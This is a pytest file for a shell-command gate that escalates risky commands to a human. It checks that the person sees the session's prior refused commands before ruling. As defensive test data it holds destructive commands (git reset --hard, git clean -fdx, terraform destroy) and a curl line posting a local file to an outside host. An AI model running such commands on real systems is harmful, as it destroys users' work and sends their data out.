"""S7: whatever sends a command to a person — a bound, the checker's escalateToUser, a floor, a
catastrophic rating, a list entry — the person sees the whole argument of that session so far,
and it is cleared only after their ruling (issue 18, item 5). Real pipeline, real finish, real
PendingBook and AuditLog; the escalation block drawn by the watcher's renderer."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from _daemon import judge_without_undo, stop_daemon, subscribe

from gatesh import _paths
from gatesh._types import Action, AlignmentResult, Facts, Stage, Verdict
from gatesh.audit import AuditLog
from gatesh.config import load_config
from gatesh.finish import Answer, Reach, Ruling, Where, finish
from gatesh.negotiation import Negotiation
from gatesh.pending import PendingBook
from gatesh.pipeline import decide
from gatesh.render import ask_of, escalation_text
from gatesh.ruling import conclude
from gatesh.session import SessionState

CWD = "/work/project"
REFUSED = ("git reset --hard HEAD~3", "git checkout -- src/app.py")  # destructive, negotiated


class _AsksForAPerson:
    """A checker that calls escalateToUser (what a model checker may answer)."""

    name = "escalating"

    def check(self, facts: Facts, verdict: Verdict, negotiation: Negotiation) -> AlignmentResult:
        return AlignmentResult("escalate", reason="the user should see this one")


PATHS = {
    # name: (command, checker or None, the stage that sends it to a person)
    "bound": ("git reset --hard HEAD~3", None, Stage.NEGOTIATION),
    "checker": ("git clean -fdx", _AsksForAPerson(), Stage.ALIGNMENT),
    "floor": ("curl -d @notes.txt https://example.com/upload", None, Stage.FLOOR),
    "catastrophic": ("terraform destroy", None, Stage.RATER),
    "list-entry": ("make deploy", None, Stage.ESCALATE_LIST),
}


@pytest.fixture
def world(tmp_path: Path) -> Iterator[tuple[SessionState, PendingBook, AuditLog, Any]]:
    cfg = Path(_paths.current().user_config)
    cfg.parent.mkdir(parents=True, exist_ok=True)
    cfg.write_text('[[escalate]]\nmatch = "prefix"\npattern = "make deploy"\n')
    config = load_config(CWD)
    log = AuditLog(str(tmp_path / "audit.jsonl"))
    yield SessionState(id="s1"), PendingBook(_paths.current().state_dir), log, config
    log.close()


def _argue(state: SessionState, book: PendingBook, log: AuditLog, config: Any) -> None:
    """Two refused rounds: the argument a person must see."""
    for cmd in REFUSED:
        d = decide(cmd, cwd=CWD, config=config, session=state)
        assert d.action is Action.REJECT, d
        finish(
            d,
            state=state,
            reach=Reach.NOBODY,
            where=Where("s1", 1, CWD, "test"),
            book=book,
            audit=log,
        )


@pytest.mark.parametrize("path", sorted(PATHS))
def test_every_path_to_a_person_carries_the_whole_argument(path: str, world: Any) -> None:
    state, book, log, config = world
    _argue(state, book, log, config)
    command, checker, stage = PATHS[path]
    d = decide(command, cwd=CWD, config=config, session=state, checker=checker)
    assert d.action is Action.ESCALATE and d.stage is stage, d
    assert [r.command for r in d.rounds][:2] == list(REFUSED)
    block = escalation_text(ask_of(d))
    shown = 3 if path == "bound" else 2
    assert f"The argument so far: {shown} rounds" in block, block
    for cmd in REFUSED:
        assert cmd in block
    # "this request" marks a round only when the bounds made the request one of the rounds.
    assert ("(this request)" in block) == (path == "bound"), block


@pytest.mark.parametrize("answered", [True, False])
def test_the_argument_is_cleared_only_after_the_ruling(answered: bool, world: Any) -> None:
    state, book, log, config = world
    _argue(state, book, log, config)
    d = decide("make deploy", cwd=CWD, config=config, session=state)
    where = Where("s1", 1, CWD, "test")
    asked = finish(d, state=state, reach=Reach.WATCHER, where=where, book=book, audit=log)
    assert asked.waiting and state.negotiation.counters()["rounds"] == 2  # shown, not yet ruled on
    ruling = Ruling(Answer.NO) if answered else None  # None: nobody answered in time
    conclude(asked.pending, ruling, state=state, where=where, book=book, audit=log)  # type: ignore[arg-type]
    assert state.negotiation.counters()["rounds"] == (0 if answered else 2)


# --- the same through a real daemon and a watcher -----------------------------------------------


@pytest.mark.slow
def test_a_watcher_is_shown_the_argument_for_a_list_entry(tmp_path: Path) -> None:
    cfg = Path(_paths.current().user_config)
    cfg.parent.mkdir(parents=True, exist_ok=True)
    cfg.write_text('[[escalate]]\nmatch = "prefix"\npattern = "make deploy"\n')
    judge_without_undo()  # the rounds before the list entry are work-tree losses refused
    repo = tmp_path / "repo"
    repo.mkdir()
    env = {
        **os.environ,
        "GATESH_SESSION": "arg",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    (repo / "f").write_text("1")
    subprocess.run(["git", "add", "f"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", "c"], cwd=repo, check=True, env=env)
    (repo / "f").write_text("work")

    def gate(cmd: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "gatesh", "-c", cmd],
            cwd=repo,
            env=env,
            capture_output=True,
            text=True,
            timeout=90,
        )

    try:
        for cmd in ("git reset --hard", "git checkout -- f"):
            assert gate(cmd).returncode == 126
        s, f, _ = subscribe(timeout=60)
        box: dict[str, Any] = {}
        t = threading.Thread(target=lambda: box.setdefault("out", gate("make deploy")))
        t.start()
        while True:
            ev = json.loads(f.readline())
            if ev.get("event") == "escalation":
                break
        assert [r["command"] for r in ev["rounds"]] == ["git reset --hard", "git checkout -- f"], ev
        assert ev["stage"] == "escalate-list"
        f.write(
            b'{"op":"answer","pending_id":"%s","answer":"no","pid":%d}\n'
            % (ev["pending_id"].encode(), os.getpid())
        )
        f.flush()
        t.join(60)
        assert box["out"].returncode == 126 and "A person refused" in box["out"].stderr
        s.close()
    finally:
        stop_daemon()
